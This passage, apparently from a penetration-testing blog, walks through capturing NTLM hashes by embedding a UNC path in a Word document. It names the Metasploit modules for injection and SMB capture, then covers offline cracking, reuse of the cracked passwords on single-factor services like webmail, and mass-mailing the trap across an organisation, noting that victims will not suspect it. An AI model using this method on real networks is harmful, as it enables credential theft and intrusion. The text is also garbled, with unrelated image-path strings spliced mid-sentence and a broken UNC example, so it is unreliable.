Create a new document (test.docx) and embed a UNC paththat is located on an Internet facing host, e.g. \\\logo.png

This can be done using the Metasploit module word_unc_injector (auxiliary/docx/word_unc_injector) or manually via the GUI.


Then setup the SMB auxiliary module (auxiliary/server/capture/smb) in order to capture the client handshake. The beauty with domain configured UNC paths is the ability to capture the NTLM challenge/response packet which can be used to perform an off-line brute-force attack against their password. Again, the beauty with this is aslong as you haven’t sent the user anything out of the ordinary then the end-user will not suspect anything at all and this will allow you time to crack their password.


Once you have domain user accounts and passwords you can go on the hunt for any externally facing single factor systems, such as Microsoft Lync, Webmail, or any other single factor system available to the Internet.

The moral of the story is clients should not be relying on end-user’s to implement secure technical controls from their home offices, nor should you rely on a single factor system in this day and age.There is a million other things that can be done once you have access to systems such as webmail, which includes sendingembedded UNC paths to the entire organisation asif you send from a trustedaddress, the email client will automatically attempt to download the image over SMB and you will have a air-strike of hashes from the target organization.